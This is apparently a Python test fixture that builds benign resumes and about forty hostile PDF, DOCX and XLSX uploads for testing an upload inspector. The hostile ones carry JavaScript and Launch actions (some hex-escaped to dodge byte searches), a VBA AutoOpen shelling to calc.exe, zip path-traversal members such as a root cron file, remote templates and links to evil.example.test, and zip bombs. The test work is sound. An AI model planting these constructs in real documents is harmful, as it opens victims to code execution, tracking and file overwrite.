"""A corpus of uploads built at test time: benign PDF, DOCX and XLSX files in
English and Chinese, and hostile ones, each with the refusal code the upload
inspection must give (core.uploads.REASONS). No binary fixture is committed:
every file is made here with reportlab, pypdf, python-docx, openpyxl and zipfile."""

from __future__ import annotations

import functools
import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

from core.uploads import DOCX, PDF, XLSX

ENGLISH = ("Lena Park", "Kubernetes operator and Go engineer")
CHINESE = ("王小明", "熟悉分布式系统的后端工程师")

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Sample:
    name: str
    filename: str
    kind: str  # PDF, DOCX or XLSX: what the file is made as
    build: Callable[[], bytes]
    refusal: str | None = None  # the code the inspection gives; None for a benign file

    @property
    def content(self) -> bytes:
        return _built(self.build)

    def __str__(self) -> str:
        return self.name


@functools.cache
def _built(build: Callable[[], bytes]) -> bytes:
    return build()


# --- Benign files ----------------------------------------------------------------------


def pdf(name: str, line: str, *, chinese: bool = False) -> bytes:
    from reportlab.pdfbase import pdfmetrics
    from reportlab.pdfbase.cidfonts import UnicodeCIDFont
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    page = canvas.Canvas(buffer)
    if chinese:
        pdfmetrics.registerFont(UnicodeCIDFont("STSong-Light"))
        page.setFont("STSong-Light", 14)
    page.drawString(72, 720, name)
    page.drawString(72, 700, line)
    page.save()
    return buffer.getvalue()


def docx(name: str, line: str) -> bytes:
    import docx as python_docx

    document = python_docx.Document()
    document.add_heading(name, level=1)
    document.add_paragraph(line)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx(headers: tuple[str, ...], row: tuple[str, ...]) -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(list(headers))
    sheet.append(list(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def pdf_en() -> bytes:
    return pdf(*ENGLISH)


def pdf_zh() -> bytes:
    return pdf(*CHINESE, chinese=True)


def docx_en() -> bytes:
    return docx(*ENGLISH)


def docx_zh() -> bytes:
    return docx(*CHINESE)


def xlsx_en() -> bytes:
    return xlsx(("Name", "Email", "Title"), ("Lena Park", "lena@example.test", ENGLISH[1]))


def xlsx_zh() -> bytes:
    return xlsx(("姓名", "邮箱", "职位"), ("王小明", "wang@example.test", CHINESE[1]))


# --- Editing a PDF with pypdf ------------------------------------------------------------


def _pdf_edit(edit: Callable) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(pdf_en()))
    edit(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _dictionary(**entries):
    from pypdf.generic import DictionaryObject, NameObject

    return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})


def _name(value: str):
    from pypdf.generic import NameObject

    return NameObject(f"/{value}")


def _text(value: str):
    from pypdf.generic import TextStringObject

    return TextStringObject(value)


def _annotate(writer, annotation) -> None:
    from pypdf.generic import ArrayObject, FloatObject, NameObject

    annotation[NameObject("/Type")] = _name("Annot")
    annotation[NameObject("/Rect")] = ArrayObject([FloatObject(v) for v in (72, 600, 200, 620)])
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _javascript_action():
    return _dictionary(S=_name("JavaScript"), JS=_text("app.alert('hello')"))


def pdf_open_action_javascript() -> bytes:
    return _pdf_edit(lambda w: w.root_object.__setitem__(_name("OpenAction"), w._add_object(_javascript_action())))


def pdf_open_action_uri() -> bytes:
    action = _dictionary(S=_name("URI"), URI=_text("https://tracker.example.test/opened"))
    return _pdf_edit(lambda w: w.root_object.__setitem__(_name("OpenAction"), action))


def pdf_page_additional_action() -> bytes:
    action = _dictionary(S=_name("URI"), URI=_text("https://tracker.example.test/page"))
    return _pdf_edit(lambda w: w.pages[0].__setitem__(_name("AA"), _dictionary(O=action)))


def pdf_launch() -> bytes:
    action = _dictionary(S=_name("Launch"), F=_text("C:\\Windows\\System32\\cmd.exe"))
    return _pdf_edit(lambda w: _annotate(w, _dictionary(Subtype=_name("Link"), A=action)))


def pdf_link_javascript() -> bytes:
    return _pdf_edit(lambda w: _annotate(w, _dictionary(Subtype=_name("Link"), A=_javascript_action())))


def pdf_names_javascript() -> bytes:
    from pypdf.generic import ArrayObject

    def edit(writer) -> None:
        tree = _dictionary(Names=ArrayObject([_text("hello"), writer._add_object(_javascript_action())]))
        writer.root_object[_name("Names")] = _dictionary(JavaScript=writer._add_object(tree))

    return _pdf_edit(edit)


def pdf_embedded_file() -> bytes:
    return _pdf_edit(lambda w: w.add_attachment("invoice.exe", b"MZ\x90\x00 not really a program"))


def pdf_file_attachment_annotation() -> bytes:
    from pypdf.generic import DecodedStreamObject

    def edit(writer) -> None:
        stream = DecodedStreamObject()
        stream.set_data(b"MZ\x90\x00 not really a program")
        stream[_name("Type")] = _name("EmbeddedFile")
        spec = _dictionary(Type=_name("Filespec"), F=_text("tool.exe"), EF=_dictionary(F=writer._add_object(stream)))
        _annotate(writer, _dictionary(Subtype=_name("FileAttachment"), FS=writer._add_object(spec)))

    return _pdf_edit(edit)


def pdf_xfa() -> bytes:
    from pypdf.generic import ArrayObject, DecodedStreamObject

    def edit(writer) -> None:
        template = DecodedStreamObject()
        template.set_data(b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"/>')
        xfa = ArrayObject([_text("template"), writer._add_object(template)])
        writer.root_object[_name("AcroForm")] = _dictionary(Fields=ArrayObject(), XFA=xfa)

    return _pdf_edit(edit)


def pdf_field_javascript() -> bytes:
    from pypdf.generic import ArrayObject

    def edit(writer) -> None:
        field = _dictionary(FT=_name("Tx"), T=_text("name"), AA=_dictionary(K=_javascript_action()))
        writer.root_object[_name("AcroForm")] = _dictionary(Fields=ArrayObject([writer._add_object(field)]))

    return _pdf_edit(edit)


def pdf_encrypted() -> bytes:
    return _pdf_edit(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="RC4-128"))


def pdf_open_at_first_page() -> bytes:
    """What LaTeX's hyperref and Word write: an /OpenAction that is only a destination,
    and a link to a web page."""
    from pypdf.generic import ArrayObject

    def edit(writer) -> None:
        page = writer.pages[0].indirect_reference
        writer.root_object[_name("OpenAction")] = ArrayObject([page, _name("Fit")])
        link = _dictionary(S=_name("URI"), URI=_text("https://www.linkedin.com/in/lena-park"))
        _annotate(writer, _dictionary(Subtype=_name("Link"), A=link))

    return _pdf_edit(edit)


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, object 1 its catalog, with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


PAGES = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
)


def pdf_hex_escaped_javascript() -> bytes:
    """/J#61vaScript is /JavaScript to every reader; a byte search misses it."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >> >>"
    return raw_pdf(catalog, *PAGES)


def pdf_hex_escaped_launch() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /#53 /#4C#61#75#6E#63#68 /F (calc.exe) >> >>"
    return raw_pdf(catalog, *PAGES)


def pdf_unreferenced_javascript() -> bytes:
    """A JavaScript action no page points to, left for a reader that rebuilds the file."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", *PAGES, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")


def pdf_damaged() -> bytes:
    return b"%PDF-1.7\n" + b"\x00\xff" * 2000


# --- Editing a zip ------------------------------------------------------------------------


def rezip(
    content: bytes,
    *,
    add: dict[str, bytes] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
) -> bytes:
    """The package ``content`` rewritten with members added (any name, even a
    hostile one) and members edited."""
    edit = edit or {}
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename in edit:
                data = edit[info.filename](data)
            target.writestr(info.filename, data)
        for name, data in (add or {}).items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(info, data)
    return buffer.getvalue()


def _content_type(part: str, kind: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        pattern = rb'(<Override[^>]*PartName="' + re.escape(part.encode()) + rb'"[^>]*ContentType=")[^"]*(")'
        data, count = re.subn(pattern, rb"\g<1>" + kind.encode() + rb"\g<2>", data)
        assert count == 1, part
        return data

    return change


def _with_default(extension: str, kind: str) -> Callable[[bytes], bytes]:
    def change(data: bytes) -> bytes:
        default = f'<Default Extension="{extension}" ContentType="{kind}"/>'.encode()
        return data.replace(b"</Types>", default + b"</Types>")

    return change


def _with_relationship(rel_type: str, target: str, *, external: bool = True) -> Callable[[bytes], bytes]:
    mode = ' TargetMode="External"' if external else ""

    def change(data: bytes) -> bytes:
        relationship = f'<Relationship Id="rIdX99" Type="{REL}/{rel_type}" Target="{target}"{mode}/>'.encode()
        return data.replace(b"</Relationships>", relationship + b"</Relationships>")

    return change


def relationships(*entries: tuple[str, str]) -> bytes:
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
        for n, (kind, target) in enumerate(entries, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PACKAGE_REL}">{body}</Relationships>'.encode()


VBA = b'\xcc\x61\x00\x00 Attribute VB_Name = "ThisDocument" Sub AutoOpen() Shell "calc.exe" End Sub'
MACRO_DOCX = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_XLSX = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
TEMPLATE_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def docx_vba_project() -> bytes:
    return rezip(
        docx_en(),
        add={"word/vbaProject.bin": VBA},
        edit={"[Content_Types].xml": _with_default("bin", "application/vnd.ms-office.vbaProject")},
    )


def docx_vba_project_hidden() -> bytes:
    """vbaProject.bin under another folder and with no content type: found by name anywhere."""
    return rezip(docx_en(), add={"customXml/item9/vbaProject.bin": VBA})


def docx_macro_enabled_type() -> bytes:
    return rezip(docx_en(), edit={"[Content_Types].xml": _content_type("/word/document.xml", MACRO_DOCX)})


def docx_attached_template() -> bytes:
    return rezip(
        docx_en(),
        add={"word/_rels/settings.xml.rels": relationships(("attachedTemplate", "https://evil.example.test/t.dotm"))},
    )


def docx_ole_link() -> bytes:
    return rezip(
        docx_en(),
        edit={"word/_rels/document.xml.rels": _with_relationship("oleObject", "file://///evil.example.test/s/x.xlsx")},
    )


def docx_external_image() -> bytes:
    return rezip(
        docx_en(),
        edit={"word/_rels/document.xml.rels": _with_relationship("image", "https://tracker.example.test/p.png")},
    )


def docx_parent_member() -> bytes:
    return rezip(docx_en(), add={"../../evil.sh": b"#!/bin/sh\n"})


def docx_absolute_member() -> bytes:
    return rezip(docx_en(), add={"/etc/cron.d/evil": b"* * * * * root sh\n"})


def docx_backslash_member() -> bytes:
    return rezip(docx_en(), add={"word\\..\\..\\evil.bat": b"calc.exe\n"})


def docx_drive_letter_member() -> bytes:
    return rezip(docx_en(), add={"C:/Windows/Temp/evil.bat": b"calc.exe\n"})


def docx_zip_bomb() -> bytes:
    return rezip(docx_en(), add={"word/media/image1.png": bytes(8 * 2**20)})


def docx_oversize() -> bytes:
    return rezip(docx_en(), add={f"word/media/image{n}.png": bytes(20 * 2**20) for n in range(1, 4)})


def docx_too_many_members() -> bytes:
    return rezip(docx_en(), add={f"word/parts/part{n}.xml": b"<a/>" for n in range(6000)})


def docx_encrypted_member() -> bytes:
    """A member marked as encrypted (general purpose flag bit 0), as a password-protected zip has."""
    content = bytearray(rezip(docx_en(), add={"word/secret.xml": b"<a/>"}))
    # The added member is the last one: its local header and its central directory entry.
    content[content.rindex(b"PK\x03\x04") + 6] |= 0x1
    content[content.rindex(b"PK\x01\x02") + 8] |= 0x1
    return bytes(content)


def docx_template_type() -> bytes:
    """A Word template (.dotx) is a zip that is not the declared .docx type."""
    return rezip(docx_en(), edit={"[Content_Types].xml": _content_type("/word/document.xml", TEMPLATE_DOCX)})


def docx_entity_expansion() -> bytes:
    """A .rels with entities (billion laughs): no real package declares a DTD."""
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        b'<Relationships xmlns="' + PACKAGE_REL.encode() + b'"><Relationship Id="r" Type="&b;" Target="x"/>'
        b"</Relationships>"
    )
    return rezip(docx_en(), add={"word/_rels/footer9.xml.rels": laughs})


def compound_file(*streams: str) -> bytes:
    """A minimal, well-formed OLE compound file (version 3, 512-byte sectors):
    a root entry and empty streams of the given names. Office wraps a
    password-protected .docx or .xlsx this way (EncryptionInfo, EncryptedPackage)."""
    end, free, fat_sector = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHH6xIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0)
    header += struct.pack("<I", 0) + struct.pack("<I", free) * 108
    fat = struct.pack("<II", fat_sector, end) + struct.pack("<I", free) * 126

    def entry(name: str, kind: int, child: int = free, right: int = free) -> bytes:
        encoded = (name + "\x00").encode("utf-16-le")
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", free, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", end, 0)
        )

    entries = [entry("Root Entry", 5, child=1 if streams else free)]
    entries += [entry(name, 2, right=n + 2 if n + 2 <= len(streams) else free) for n, name in enumerate(streams)]
    directory = b"".join(entries).ljust(512, b"\x00")
    return header + fat + directory


def docx_encrypted() -> bytes:
    return compound_file("EncryptionInfo", "EncryptedPackage")


def docx_old_word() -> bytes:
    return compound_file("WordDocument", "1Table")


def xlsx_vba_project() -> bytes:
    return rezip(xlsx_en(), add={"xl/vbaProject.bin": VBA})


def xlsx_macro_enabled_type() -> bytes:
    return rezip(xlsx_en(), edit={"[Content_Types].xml": _content_type("/xl/workbook.xml", MACRO_XLSX)})


def xlsx_macro_sheet() -> bytes:
    """An Excel 4.0 (XLM) macro sheet, which runs without any VBA."""
    return rezip(xlsx_en(), add={"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"})


def xlsx_external_link() -> bytes:
    return rezip(
        xlsx_en(),
        add={
            "xl/externalLinks/externalLink1.xml": b"<externalLink/>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(
                ("externalLinkPath", "file://///evil.example.test/share/prices.xlsx")
            ),
        },
    )


def xlsx_data_connection() -> bytes:
    connection = b'<connections><connection id="1" name="q"><webPr url="https://evil.example.test/q"/></connection>'
    return rezip(xlsx_en(), add={"xl/connections.xml": connection + b"</connections>"})


def xlsx_parent_member() -> bytes:
    return rezip(xlsx_en(), add={"xl/../../evil.sh": b"#!/bin/sh\n"})


def xlsx_encrypted() -> bytes:
    return compound_file("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces")


def xlsx_zip_bomb() -> bytes:
    return rezip(xlsx_en(), add={"xl/media/image1.png": bytes(4 * 2**20)})


def docx_with_hyperlink() -> bytes:
    """A resume linking to a profile: a hyperlink is an external relationship a reader has to click."""
    return rezip(
        docx_en(),
        edit={"word/_rels/document.xml.rels": _with_relationship("hyperlink", "https://www.linkedin.com/in/lena")},
    )


BENIGN = (
    Sample("pdf-en", "resume.pdf", PDF, pdf_en),
    Sample("pdf-zh", "简历.pdf", PDF, pdf_zh),
    Sample("docx-en", "resume.docx", DOCX, docx_en),
    Sample("docx-zh", "简历.docx", DOCX, docx_zh),
    Sample("xlsx-en", "people.xlsx", XLSX, xlsx_en),
    Sample("xlsx-zh", "候选人.xlsx", XLSX, xlsx_zh),
    Sample("pdf-open-at-first-page-with-link", "latex.pdf", PDF, pdf_open_at_first_page),
    Sample("docx-with-hyperlink", "linked.docx", DOCX, docx_with_hyperlink),
)

HOSTILE = (
    Sample("pdf-open-action-javascript", "a.pdf", PDF, pdf_open_action_javascript, "pdf_javascript"),
    Sample("pdf-open-action-uri", "b.pdf", PDF, pdf_open_action_uri, "pdf_automatic_action"),
    Sample("pdf-page-additional-action", "c.pdf", PDF, pdf_page_additional_action, "pdf_automatic_action"),
    Sample("pdf-launch", "d.pdf", PDF, pdf_launch, "pdf_launch"),
    Sample("pdf-link-javascript", "e.pdf", PDF, pdf_link_javascript, "pdf_javascript"),
    Sample("pdf-names-javascript", "f.pdf", PDF, pdf_names_javascript, "pdf_javascript"),
    Sample("pdf-embedded-file", "g.pdf", PDF, pdf_embedded_file, "pdf_embedded_file"),
    Sample("pdf-file-attachment-annotation", "h.pdf", PDF, pdf_file_attachment_annotation, "pdf_embedded_file"),
    Sample("pdf-xfa", "i.pdf", PDF, pdf_xfa, "pdf_xfa"),
    Sample("pdf-form-field-javascript", "j.pdf", PDF, pdf_field_javascript, "pdf_javascript"),
    Sample("pdf-hex-escaped-javascript", "k.pdf", PDF, pdf_hex_escaped_javascript, "pdf_javascript"),
    Sample("pdf-hex-escaped-launch", "l.pdf", PDF, pdf_hex_escaped_launch, "pdf_launch"),
    Sample("pdf-unreferenced-javascript", "m.pdf", PDF, pdf_unreferenced_javascript, "pdf_javascript"),
    Sample("pdf-encrypted", "n.pdf", PDF, pdf_encrypted, "pdf_encrypted"),
    Sample("pdf-damaged", "o.pdf", PDF, pdf_damaged, "pdf_damaged"),
    Sample("docx-vba-project", "a.docx", DOCX, docx_vba_project, "office_macros"),
    Sample("docx-vba-project-hidden", "b.docx", DOCX, docx_vba_project_hidden, "office_macros"),
    Sample("docm-content-type", "c.docx", DOCX, docx_macro_enabled_type, "office_macros"),
    Sample("docx-attached-template", "d.docx", DOCX, docx_attached_template, "office_external"),
    Sample("docx-ole-link", "e.docx", DOCX, docx_ole_link, "office_external"),
    Sample("docx-external-image", "f.docx", DOCX, docx_external_image, "office_external"),
    Sample("docx-parent-member", "g.docx", DOCX, docx_parent_member, "office_member_name"),
    Sample("docx-absolute-member", "h.docx", DOCX, docx_absolute_member, "office_member_name"),
    Sample("docx-backslash-member", "i.docx", DOCX, docx_backslash_member, "office_member_name"),
    Sample("docx-drive-letter-member", "j.docx", DOCX, docx_drive_letter_member, "office_member_name"),
    Sample("docx-zip-bomb", "k.docx", DOCX, docx_zip_bomb, "office_compression"),
    Sample("docx-oversize", "l.docx", DOCX, docx_oversize, "office_too_large"),
    Sample("docx-too-many-members", "m.docx", DOCX, docx_too_many_members, "office_too_many_members"),
    Sample("docx-encrypted-member", "n.docx", DOCX, docx_encrypted_member, "office_encrypted"),
    Sample("docx-encrypted-compound-file", "o.docx", DOCX, docx_encrypted, "office_encrypted"),
    Sample("doc-old-word", "p.docx", DOCX, docx_old_word, "office_old_format"),
    Sample("docx-entity-expansion", "q.docx", DOCX, docx_entity_expansion, "office_damaged"),
    Sample("xlsx-vba-project", "a.xlsx", XLSX, xlsx_vba_project, "office_macros"),
    Sample("xlsm-content-type", "b.xlsx", XLSX, xlsx_macro_enabled_type, "office_macros"),
    Sample("xlsx-macro-sheet", "c.xlsx", XLSX, xlsx_macro_sheet, "office_macros"),
    Sample("xlsx-external-link", "d.xlsx", XLSX, xlsx_external_link, "office_external"),
    Sample("xlsx-data-connection", "e.xlsx", XLSX, xlsx_data_connection, "office_external"),
    Sample("xlsx-parent-member", "f.xlsx", XLSX, xlsx_parent_member, "office_member_name"),
    Sample("xlsx-encrypted-compound-file", "g.xlsx", XLSX, xlsx_encrypted, "office_encrypted"),
    Sample("xlsx-zip-bomb", "h.xlsx", XLSX, xlsx_zip_bomb, "office_compression"),
)

# A file whose hostility is only that it is not the declared type: the reason depends on the path.
WRONG_TYPE = Sample("dotx-template-as-docx", "t.docx", DOCX, docx_template_type, "docx_wrong_type")
